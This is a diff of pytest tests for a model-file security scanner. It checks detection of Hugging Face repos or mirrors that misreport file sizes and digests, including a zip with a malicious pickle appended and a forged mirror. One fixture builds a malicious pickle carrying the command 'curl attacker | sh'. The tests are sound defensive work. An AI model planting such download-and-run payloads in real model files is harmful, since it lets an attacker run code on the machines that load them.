@@ -14,11 +14,11 @@ from pathlib import Path
 
 import numpy as np
 import pytest
-from safetensors.numpy import save
-
 from hf_server import HubFile, HubServer
 from model_fixtures import malicious_pickle, torch_zip
+from safetensors.numpy import save
 from source_helpers import hf_scan, outcome, reasons
+
 from modelsec.engine import Engine
 from modelsec.policy import Outcome
 
@@ -27,10 +27,13 @@ MIB = 1 << 20
 
 @pytest.fixture
 def model(hub: HubServer) -> None:
-    hub.add_repo("acme/model", {
-        "model.safetensors": save({"weight": np.zeros(1024, dtype=np.float32)}),
-        "config.json": b'{"architectures": ["Bert"]}',
-    })
+    hub.add_repo(
+        "acme/model",
+        {
+            "model.safetensors": save({"weight": np.zeros(1024, dtype=np.float32)}),
+            "config.json": b'{"architectures": ["Bert"]}',
+        },
+    )
 
 
 # --- 16: what the server says must agree --------------------------------------------------
@@ -40,10 +43,13 @@ def test_file_listed_as_empty_is_still_fetched(hub: HubServer) -> None:
     """Listed with size 0 (and the SHA-256 of nothing), served with a malicious pickle: the
     scan used to see an empty file and say ALLOWED."""
     evil = malicious_pickle("curl attacker | sh")
-    hub.add_repo("mallory/empty", {
-        "weights": HubFile("weights", data=b"", served=evil, lfs=True),
-        "extra.json": HubFile("extra.json", data=b"", served=b'{"auto_map": {}}', lfs=False),
-    })
+    hub.add_repo(
+        "mallory/empty",
+        {
+            "weights": HubFile("weights", data=b"", served=evil, lfs=True),
+            "extra.json": HubFile("extra.json", data=b"", served=b'{"auto_map": {}}', lfs=False),
+        },
+    )
     scanned = hf_scan(hub, "hf://mallory/empty")
     found = reasons(scanned, "MS-SRC-009")
     assert len(found) == 2, scanned.report.all_incompletes()
@@ -57,7 +63,9 @@ def test_file_listed_smaller_than_served(hub: HubServer) -> None:
     loader reads the whole file, whose last end-of-central-directory is the malicious one."""
     clean = torch_zip({"0": bytes(64)})
     served = clean + torch_zip({"0": bytes(64)}, pickle_bytes=malicious_pickle())
-    hub.add_repo("mallory/prefix", {"pytorch_model.bin": HubFile("pytorch_model.bin", data=clean, served=served)})
+    hub.add_repo(
+        "mallory/prefix", {"pytorch_model.bin": HubFile("pytorch_model.bin", data=clean, served=served)}
+    )
     scanned = hf_scan(hub, "hf://mallory/prefix")
     found = reasons(scanned, "MS-SRC-009")
     assert found and f"size as {len(served)} (Content-Range), the listing as {len(clean)}" in found[0]
@@ -87,11 +95,15 @@ def test_claimed_digests_never_make_fingerprints_equal(tmp_path: Path) -> None:
     """A mirror claims the LFS SHA-256 of a known-clean file for other bytes. The scan reads
     only the head of each file, so the claim is all it knows; the fingerprint must not let
     the mirror's model pass for the clean one (nor for a local copy that was hashed)."""
-    clean = b'H\x00\x00\x00\x00\x00\x00\x00{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}' + b"\0" * (MIB - 80)
+    clean = b'H\x00\x00\x00\x00\x00\x00\x00{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}' + b"\0" * (
+        MIB - 80
+    )
     forged = clean[:64] + b"\xff" * (len(clean) - 64)  # same head, other bytes
     with HubServer() as hub, HubServer() as mirror:
         hub.add_repo("acme/model", {"model.safetensors": HubFile("model.safetensors", data=clean)})
-        mirror.add_repo("acme/model", {"model.safetensors": HubFile("model.safetensors", data=clean, served=forged)})
+        mirror.add_repo(
+            "acme/model", {"model.safetensors": HubFile("model.safetensors", data=clean, served=forged)}
+        )
         genuine = hf_scan(hub, "hf://acme/model").report
         claimed = hf_scan(mirror, "hf://acme/model").report
     (tmp_path / "model.safetensors").write_bytes(clean)
@@ -209,7 +221,9 @@ def test_scan_deadline_ends_the_scan_and_keeps_its_findings(hub: HubServer) -> N
         (5, None, "not-a-git-oid", "MS-SRC-012", "not 40 hex digits"),
     ],
 )
-def test_listing_entries_are_checked_for_shape(size: object, lfs: object, blob: object, code: str, says: str) -> None:
+def test_listing_entries_are_checked_for_shape(
+    size: object, lfs: object, blob: object, code: str, says: str
+) -> None:
     from modelsec.sources.errors import SourceFailure
     from modelsec.sources.huggingface import _listed
 
@@ -241,8 +255,12 @@ def test_a_final_status_is_read_through_the_shared_table(
     assert outcome(scanned) == Outcome.ERROR
 
 
-@pytest.mark.parametrize(("status", "expected"), [(408, "MS-SRC-012"), (500, "MS-SRC-012"), (429, "MS-SRC-006")])
-def test_a_transient_status_is_retried_then_reported(hub: HubServer, model: None, status: int, expected: str) -> None:
+@pytest.mark.parametrize(
+    ("status", "expected"), [(408, "MS-SRC-012"), (500, "MS-SRC-012"), (429, "MS-SRC-006")]
+)
+def test_a_transient_status_is_retried_then_reported(
+    hub: HubServer, model: None, status: int, expected: str
+) -> None:
     hub.error_answers = {"/config.json": status}
     scanned = hf_scan(hub, "hf://acme/model", maxRetries=2)
     assert reasons(scanned, expected), scanned.report.all_incompletes()
